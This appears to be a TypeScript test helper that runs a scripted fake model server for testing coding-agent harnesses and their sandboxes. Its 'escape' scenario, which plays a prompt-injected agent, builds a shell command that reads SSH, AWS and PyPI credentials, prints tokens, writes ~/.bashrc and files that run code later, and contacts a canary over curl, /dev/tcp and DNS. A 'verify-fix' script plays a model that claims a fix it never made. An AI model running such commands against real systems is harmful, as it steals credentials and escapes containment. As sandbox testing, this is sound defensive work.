import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import { heldAnswers, listenLoopback } from "./loopback.js";

import type { ChatMessage, ChatRequest, ModelServer, RecordedRequest, Reply, Usage } from "./wire.js";

export type { ChatMessage, ChatRequest, ModelServer, RecordedRequest, Reply };

export function messageText(content: unknown): string {
  if (typeof content === "string") return content;
  if (Array.isArray(content)) {
    return content
      .map((p) => (p && typeof p === "object" && "text" in p ? String((p as { text: unknown }).text) : ""))
      .join("");
  }
  return "";
}

function firstUserText(body: ChatRequest): string {
  const user = body.messages.find((m) => m.role === "user");
  return user ? messageText(user.content) : "";
}

function scenarioOf(body: ChatRequest): string {
  const match = /scenario:([a-z0-9-]+)/.exec(firstUserText(body));
  return match ? match[1]! : "plain";
}

/** Tool results the model has seen so far in this turn. */
function userMessages(body: ChatRequest): number {
  return body.messages.filter((m) => m.role === "user").length;
}

function toolResults(body: ChatRequest): ChatMessage[] {
  return body.messages.filter((m) => m.role === "tool");
}

/** 529 overloaded, as a provider says it, with opencode's own retries kept short (retry-after: 1). */
export const OVERLOADED: Reply = {
  kind: "http",
  status: 529,
  headers: { "retry-after": "1" },
  body: { error: { message: "Overloaded", type: "overloaded_error" } },
};

/**
 * Claims success without doing the work; sent back (a later user message: oc-exec's --verify
 * follow-up), it does it with a command and answers.
 */
export function verifyFix(body: ChatRequest): Reply {
  const users = body.messages.flatMap((m, i) => (m.role === "user" ? [i] : []));
  if (users.length < 2) return { kind: "text", text: "Done, all good." };
  const fixed = body.messages.slice(users.at(-1)).some((m) => m.role === "tool");
  return fixed
    ? { kind: "text", text: "Fixed: the check passes now." }
    : { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] };
}

/** What a script reads of the request it answers. */
export type ScriptTurn = {
  body: ChatRequest;
  scenario: string;
  /** The tool results the model has seen so far in this turn; `done`: there is one. */
  results: ChatMessage[];
  done: boolean;
  /** The turn's first user message: its prompt. */
  text: string;
  /** How many requests of this turn (its first user message) the server has had, this one included. */
  calls: number;
};

export function scriptTurn(body: ChatRequest, seen: readonly RecordedRequest[]): ScriptTurn {
  const results = toolResults(body);
  const text = firstUserText(body);
  return {
    body,
    scenario: scenarioOf(body),
    results,
    done: results.length > 0,
    text,
    calls: seen.filter((r) => r.userText === text).length,
  };
}

/**
 * The scripts. Each looks at the conversation so far and answers the next request; `seen` is every
 * request the server got, this one last (the scripts that play a provider failing for a while).
 */
export function scriptedReply(body: ChatRequest, seen: readonly RecordedRequest[] = []): Reply {
  const { scenario, results, done, text, calls } = scriptTurn(body, seen);
  switch (scenario) {
    case "stall-once":
      // The first request never answers (a stream with no byte); any later one does.
      return calls <= 1 ? { kind: "hang" } : { kind: "text", text: "Answered on a later try." };
    case "overloaded-once":
      // Overloaded through all of opencode's own retries, however many it makes (5 as observed, more
      // when a loaded machine's dropped connection adds one), then fine from the next attempt on:
      // oc-exec's --retry, which adds a user message to the session.
      return userMessages(body) < 2 ? OVERLOADED : { kind: "text", text: "Answered once the provider recovered." };
    case "retry-after-long":
      // Overloaded, and come back in an hour: opencode sleeps through such a wait on its own.
      return { ...OVERLOADED, headers: { "retry-after": "3600" } } as Reply;
    case "plain":
      return {
        kind: "text",
        text: "Hello from the scripted model.",
        usage: { prompt_tokens: 120, completion_tokens: 8 },
      };
    case "echo":
      return { kind: "text", text: `you said: ${text}` };
    case "tool":
      return done
        ? { kind: "text", text: "The command printed hi.", usage: { prompt_tokens: 200, completion_tokens: 6 } }
        : {
            kind: "tool",
            calls: [{ name: "bash", args: { command: "echo hi", description: "Print hi" } }],
            usage: { prompt_tokens: 150, completion_tokens: 20 },
          };
    case "write":
      return done
        ? { kind: "text", text: "Wrote notes.txt." }
        : { kind: "tool", calls: [{ name: "write", args: { filePath: "notes.txt", content: "hello\n" } }] };
    case "verify-fix":
      return verifyFix(body);
    case "empty":
      // A model that ends its turn without a word.
      return { kind: "text", text: "" };
    case "read-missing":
      // A tool call that fails (the file is not there), after which the model still answers.
      return done
        ? { kind: "text", text: "There is no such file." }
        : { kind: "tool", calls: [{ name: "read", args: { filePath: "missing.txt" } }] };
    case "escape":
      // A prompt-injected agent: one command that tries every way out of a sandbox, then reports.
      return done
        ? { kind: "text", text: "Tried everything." }
        : { kind: "tool", calls: [{ name: "bash", args: { command: escapeScript(text), description: "Escape" } }] };
    case "loop-tools":
      // An agent that never stops calling tools: what budgets exist for.
      return {
        kind: "tool",
        calls: [{ name: "bash", args: { command: `echo step ${results.length}`, description: "Loop" } }],
        usage: { prompt_tokens: 1000, completion_tokens: 50 },
      };
    case "json":
      return { kind: "text", text: 'Here it is:\n```json\n{"answer": 42, "files": ["a.ts"]}\n```' };
    case "json-bad":
      return { kind: "text", text: '{"answer": "forty-two"}' };
    case "length":
      return { kind: "text", text: "This answer was cut", finish: "length" };
    case "http-401":
      return {
        kind: "http",
        status: 401,
        body: {
          error: {
            message: "Incorrect API key provided: sk-test-abcdefghijklmnopqrstuvwxyz123456",
            type: "invalid_request_error",
            code: "invalid_api_key",
          },
        },
      };
    case "http-429":
      return {
        kind: "http",
        status: 429,
        headers: { "retry-after": "1" },
        body: { error: { message: "Rate limit reached", type: "rate_limit_error" } },
      };
    case "context-overflow":
      return {
        kind: "http",
        status: 400,
        body: {
          error: {
            message:
              "This model's maximum context length is 128000 tokens. However, your messages resulted in 200000 tokens.",
            type: "invalid_request_error",
            code: "context_length_exceeded",
          },
        },
      };
    case "slow-5s":
      return { kind: "text", text: "A slow answer, after five seconds.", delayMs: 5000 };
    case "slow":
      return { kind: "text", text: "Finally.", delayMs: 30_000 };
    case "hang":
      return { kind: "hang" };
    default:
      return { kind: "text", text: `unknown scenario ${scenario}` };
  }
}

/**
 * The `escape` scenario's command: writes outside the workspace and to the workspace's files that
 * run code later (an editor's tasks, git's submodules), reads planted secrets, prints
 * secret variables, and reaches a canary (`canary=HOST:PORT` in the prompt, default 127.0.0.1:9)
 * by curl, by a raw TCP connection and by a DNS name. Each attempt prints whether it worked.
 */
function escapeScript(prompt: string): string {
  const canary = /canary=([\w.-]+):(\d+)/.exec(prompt);
  const [host, port] = canary ? [canary[1]!, canary[2]!] : ["127.0.0.1", "9"];
  // Named after the workspace and its parent, so concurrent runs do not share it.
  const outsideTmp = "/tmp/oc-exec-escape-$(basename $(dirname $PWD))-$(basename $PWD).txt";
  const attempt = (what: string, command: string) =>
    `if ( ${command} ) >/dev/null 2>&1; then echo "${what}: done"; else echo "${what}: refused"; fi`;
  // A write into a sandbox's own HOME (a tmpfs mounted at HOME's path, gone with the sandbox) is
  // made, and thrown away: said so, not "done".
  const inHome = (what: string, dir: string, command: string) =>
    `if ( ${command} ) >/dev/null 2>&1; then case "$(cd ${dir} && pwd)/" in "$HOME"/*) grep -q " $HOME [^-]* - tmpfs " /proc/self/mountinfo && echo "${what}: thrown away" || echo "${what}: done";; *) echo "${what}: done";; esac; else echo "${what}: refused"; fi`;
  return [
    inHome("write ../escape.txt", "..", "echo pwned > ../escape.txt"),
    inHome("write ~/.bashrc", '"$HOME"', 'echo pwned >> "$HOME/.bashrc"'),
    attempt(`write ${outsideTmp}`, `echo pwned > ${outsideTmp}`),
    attempt("write inside.txt", "echo inside > inside.txt"),
    // Inside the workspace, but files that run code later, outside any sandbox (an editor's tasks).
    attempt("write .vscode/tasks.json", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"),
    attempt("write .gitmodules", "echo pwned > .gitmodules"),
    'echo "ssh key: $(cat ~/.ssh/id_ed25519 2>&1)"',
    'echo "aws: $(cat ~/.aws/credentials 2>&1)"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    'echo "tokens: GITHUB_TOKEN=${GITHUB_TOKEN:-unset} NPM_TOKEN=${NPM_TOKEN:-unset}"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    'echo "server password is ${OPENCODE_SERVER_PASSWORD:-unset}"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    'echo "tmpdir: ${TMPDIR:-unset}"',
    // What runs later, outside: git's internals (a repository copied into .git and named in
    // commondir brings its own fsmonitor), and a file hard-linked to one outside.
    `[ -d .git ] && ${attempt("write .git/commondir", "mkdir -p .git/x && cp -r .git/HEAD .git/refs .git/objects .git/x/ && echo x > .git/commondir")}`,
    `[ -f linked.txt ] && ${attempt("write linked.txt (a hard link to a file outside)", "echo pwned >> linked.txt")}`,
    // Stores a deny list misses: the sandbox's HOME shows none of them.
    'echo "pypirc: $(cat ~/.pypirc 2>&1 | head -c 200)"',
    attempt(`curl ${host}:${port}`, `curl -sf -m 5 http://${host}:${port}/curl`),
    attempt(
      `tcp ${host}:${port}`,
      `exec 3<>/dev/tcp/${host}/${port} && printf 'GET /tcp HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 5 cat <&3`,
    ),
    attempt(`dns canary.localhost:${port}`, `curl -sf -m 5 http://canary.localhost:${port}/dns`),
  ].join("\n");
}

function chunk(id: string, delta: unknown, finish: string | null, usage?: Usage) {
  const body: Record<string, unknown> = {
    id,
    object: "chat.completion.chunk",
    created: Math.floor(Date.now() / 1000),
    model: "fake-model",
    choices: [{ index: 0, delta, finish_reason: finish }],
  };
  if (usage) body.usage = { ...usage, total_tokens: usage.prompt_tokens + usage.completion_tokens };
  return `data: ${JSON.stringify(body)}\n\n`;
}

/**
 * A request of a turn as every scripted server records it (each translates its provider's body
 * into chat completions' shape first): its scenario, body, the caller's prompt and credential.
 */
export function recordedOf(body: ChatRequest, authorization: string | null): RecordedRequest {
  return { scenario: scenarioOf(body), body, userText: firstUserText(body), authorization };
}

/**
 * A request's JSON body, or null when there is none to answer: the client went away mid-request (a
 * stopped turn, a sandbox's proxy cutting it) or sent no JSON, answered 400 while it can still be.
 * Never a rejection: the server's handlers run unawaited, where one would be unhandled.
 */
export async function readJson(req: IncomingMessage, res: ServerResponse): Promise<unknown | null> {
  const parts: Buffer[] = [];
  try {
    for await (const part of req) parts.push(part as Buffer);
    return JSON.parse(Buffer.concat(parts).toString("utf8"));
  } catch {
    if (!res.headersSent && !res.destroyed) res.writeHead(400).end();
    return null;
  }
}

/**
 * The scripts call opencode's tools (bash, write, read); an agent that offers its own names for them
 * (Qwen Code: run_shell_command, write_file, read_file; Copilot CLI: create, view) gets the call
 * under its name and arguments.
 */
const TOOL_ALIASES: Record<string, { name: string; args: (a: Record<string, unknown>) => Record<string, unknown> }[]> =
  {
    bash: [{ name: "run_shell_command", args: (a) => ({ command: a.command, description: a.description }) }],
    write: [
      { name: "write_file", args: (a) => ({ file_path: a.filePath, content: a.content }) },
      { name: "create", args: (a) => ({ path: a.filePath, file_text: a.content }) },
    ],
    read: [
      { name: "read_file", args: (a) => ({ absolute_path: a.filePath }) },
      { name: "view", args: (a) => ({ path: a.filePath }) },
    ],
  };

function asOffered(reply: Reply, body: ChatRequest): Reply {
  if (reply.kind !== "tool") return reply;
  const offered = new Set((body.tools ?? []).map((t) => t.function?.name));
  if (offered.size === 0) return reply;
  const calls = reply.calls.map((call) => {
    if (offered.has(call.name)) return call;
    const alias = TOOL_ALIASES[call.name]?.find((a) => offered.has(a.name));
    return alias ? { name: alias.name, args: alias.args(call.args) } : call;
  });
  return { ...reply, calls };
}

export async function startModelServer(
  script: (body: ChatRequest, seen: readonly RecordedRequest[]) => Reply = scriptedReply,
): Promise<ModelServer> {
  const requests: RecordedRequest[] = [];
  const held = heldAnswers();
  let seq = 0;
  const server = createServer(async (req, res) => {
    if (req.method === "GET" && req.url?.endsWith("/models")) {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(
        JSON.stringify({ object: "list", data: [{ id: "fake-model", object: "model", owned_by: "oc-exec-tests" }] }),
      );
      return;
    }
    if (req.method !== "POST" || !req.url?.endsWith("/chat/completions")) {
      res.writeHead(404).end();
      return;
    }
    const body = (await readJson(req, res)) as (ChatRequest & { stream?: boolean }) | null;
    if (body === null) return;
    // An agent's own question that must be answered through one schema tool (Qwen Code's command
    // classifier: respond_in_schema {shouldBlock}), asked without streaming. It answers "block": a
    // command the classifier lets through runs without asking the ACP client, so the scripted model
    // lets none through and the caller's policy decides every one.
    const tools = (body.tools ?? []).map((t) => t.function?.name);
    if (body.stream === false) {
      const own = tools.length === 1 && tools[0] === "respond_in_schema";
      const message = own
        ? {
            role: "assistant",
            content: null,
            tool_calls: [
              {
                id: "call_schema",
                type: "function",
                function: { name: "respond_in_schema", arguments: JSON.stringify({ shouldBlock: true }) },
              },
            ],
          }
        : { role: "assistant", content: "Scripted." };
      res.writeHead(200, { "content-type": "application/json" });
      res.end(
        JSON.stringify({
          id: `chatcmpl-${++seq}`,
          object: "chat.completion",
          created: Math.floor(Date.now() / 1000),
          model: body.model ?? "fake-model",
          choices: [{ index: 0, message, finish_reason: own ? "tool_calls" : "stop" }],
          usage: { prompt_tokens: 10, completion_tokens: 1, total_tokens: 11 },
        }),
      );
      return;
    }
    requests.push(recordedOf(body, req.headers.authorization ?? null));
    const reply = asOffered(script(body, requests), body);
    const id = `chatcmpl-${++seq}`;
    if (reply.kind === "http") {
      res.writeHead(reply.status, { "content-type": "application/json", ...reply.headers });
      res.end(JSON.stringify(reply.body));
      return;
    }
    res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache", connection: "keep-alive" });
    if (reply.kind === "hang") return held.hang(res);
    if (reply.kind === "text") {
      if (!(await held.waitFor(reply, res))) return;
      res.write(chunk(id, { role: "assistant", content: "" }, null));
      // Split the text in two deltas, as real providers stream.
      const mid = Math.floor(reply.text.length / 2);
      res.write(chunk(id, { content: reply.text.slice(0, mid) }, null));
      res.write(chunk(id, { content: reply.text.slice(mid) }, null));
      res.write(chunk(id, {}, reply.finish ?? "stop"));
      res.write(
        chunk(id, {}, null, reply.usage ?? { prompt_tokens: 100, completion_tokens: 10 }).replace(
          /"choices":\[[^\]]*\]/,
          '"choices":[]',
        ),
      );
      res.end("data: [DONE]\n\n");
      return;
    }
    res.write(chunk(id, { role: "assistant", content: reply.text ?? null }, null));
    // Call ids depend only on the conversation, so they are the same whatever ran before.
    const turn = body.messages.filter((m) => m.role === "assistant").length + 1;
    reply.calls.forEach((call, index) => {
      res.write(
        chunk(
          id,
          {
            tool_calls: [
              {
                index,
                id: `call_${turn}_${index}`,
                type: "function",
                function: { name: call.name, arguments: JSON.stringify(call.args) },
              },
            ],
          },
          null,
        ),
      );
    });
    res.write(chunk(id, {}, "tool_calls"));
    res.write(
      chunk(id, {}, null, reply.usage ?? { prompt_tokens: 100, completion_tokens: 10 }).replace(
        /"choices":\[[^\]]*\]/,
        '"choices":[]',
      ),
    );
    res.end("data: [DONE]\n\n");
  });
  return listenLoopback(server, held, requests, "/v1");
}
